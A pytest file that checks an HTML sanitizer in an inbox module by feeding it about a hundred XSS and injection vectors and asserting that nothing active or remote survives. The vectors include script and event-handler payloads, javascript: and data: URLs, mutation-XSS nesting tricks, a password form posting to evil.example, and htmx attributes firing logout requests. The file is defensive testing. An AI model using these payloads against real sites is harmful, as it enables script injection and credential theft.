"""What strangers' HTML may try, and what is left of it: nothing that acts, loads, names or reaches out."""

from html.parser import HTMLParser

import pytest

from dirigent.desk.inbox.cleaning import ATTRIBUTES, TAGS, clean

VECTORS = """
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<ScRiPt>alert(1)</sCrIpT>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.gif">
<img srcset="https://evil.example/1x.png 1x">
<img/src=`x`onerror=alert(1)>
<picture><source srcset="https://evil.example/x"></picture>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><img src=x onerror=alert(1)></template>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>
<title><img title="</title><img src onerror=alert(1)>"></title>
<style>@import url(//evil.example/x.css)</style>
<style>body{background:url(https://evil.example/x)}</style>
<p style="background:url(https://evil.example/x)">x</p>
<p style="position:fixed;inset:0">x</p>
<div style="width:expression(alert(1))">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=preload as=image href=//evil.example/x>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>
<a href=" \x01javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>
<a href="https://ok.example" ping="https://evil.example">x</a>
<a href="https://ok.example" target="_top" rel="opener">x</a>
<a id="dialog" name="dialog" class="btn btn-primary" data-dialog-url="/account/logout/">x</a>
<p hx-get="/account/logout/" hx-trigger="load">x</p>
<p data-hx-post="/settings/people/1/leaving/" hx-trigger="revealed">x</p>
<p hx-swap-oob="true" id="content">x</p>
<p hx-on:click="alert(1)" hx-vals="js:{a:alert(1)}">x</p>
<hx-partial hx-target="#content">x</hx-partial>
<p data-live="mine" hx-get="/x" hx-trigger="live">x</p>
<p x-init="alert(1)" x-data="{}" @click="alert(1)" :href="x" x-html="x">x</p>
<p data-toast-undo="/settings/people/1/leaving/" data-key="KeyC">x</p>
<form action="https://evil.example" method=post><input name=password><button>x</button></form>
<form id="getElementById"><input name=attributes></form>
<button formaction="javascript:alert(1)">x</button>
<input type=image src="https://evil.example/x">
<select><option><img src=x onerror=alert(1)></select>
<isindex action="javascript:alert(1)" type=image>
<base href="https://evil.example/">
<base target="_top">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="Set-Cookie" content="sessionid=1">
<meta name=referrer content=unsafe-url>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<applet code=x></applet>
<video src="https://evil.example/x" poster="https://evil.example/y" autoplay onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<body onload=alert(1) background="https://evil.example/x">
<table background="https://evil.example/x"><td background="https://evil.example/y">x</td></table>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<dialog open id=dialog>x</dialog>
<p popover id=x>x</p><button popovertarget=x>y</button>
<p contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>
<p slot="x" is="x-y" part="z">x</p>
<keygen autofocus onfocus=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<p>&lt;img src=x onerror=alert(1)&gt;</p>
<<p>img src=x onerror=alert(1)>
<img src=x:x onerror\x0c=alert(1)>
<plaintext><img src=x onerror=alert(1)>
<portal src="https://evil.example"></portal>
<a href="//evil.example/x" download>x</a>
<a href="/account/logout/">x</a>
<a href="?x">x</a>
""".strip().splitlines()


class Left(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.seen += [(tag, "", "")] + [(tag, name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.seen.append(("comment", "", data))

    def handle_pi(self, data):
        self.seen.append(("pi", "", data))

    unknown_decl = handle_decl = handle_pi


def seen_in(html: str) -> list[tuple[str, str, str]]:
    left = Left()
    left.feed(html)
    left.close()
    return left.seen


def wrong_in(html: str) -> list:
    allowed = {tag: set(names) for tag, names in ATTRIBUTES.items()}
    allowed["a"] |= {"rel", "target"}
    wrong = []
    for tag, name, value in seen_in(html):
        if tag not in TAGS or (name and name not in allowed.get(tag, ())):
            wrong.append((tag, name, value))
        if name == "href" and not value.lower().startswith(("http://", "https://", "mailto:", "tel:")):
            wrong.append((tag, name, value))
        if (name, value) in (("target", "_top"), ("rel", "opener")):
            wrong.append((tag, name, value))
    return wrong


def test_there_are_enough_of_them():
    assert len(set(VECTORS)) >= 90


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_it_acts(vector):
    for html in (vector, f"<div><p>до</p>{vector}<p>после</p></div>", clean(vector)):
        cleaned = clean(html)
        assert wrong_in(cleaned) == []
        # What is clean stays as it is, so that there is no second reading of it.
        assert sorted(seen_in(clean(cleaned))) == sorted(seen_in(cleaned))


@pytest.mark.parametrize(
    "said",
    [
        "<p>Смета <b>готова</b></p>",
        "<ul><li>раз</li></ul>",
        "<table><tbody><tr><td>1</td></tr></tbody></table>",
        "<blockquote>цитата</blockquote>",
    ],
)
def test_what_people_write_stays(said):
    assert clean(said) == said


def test_links_tell_nobody():
    assert clean('<a href="https://ok.example/">x</a>') == (
        '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
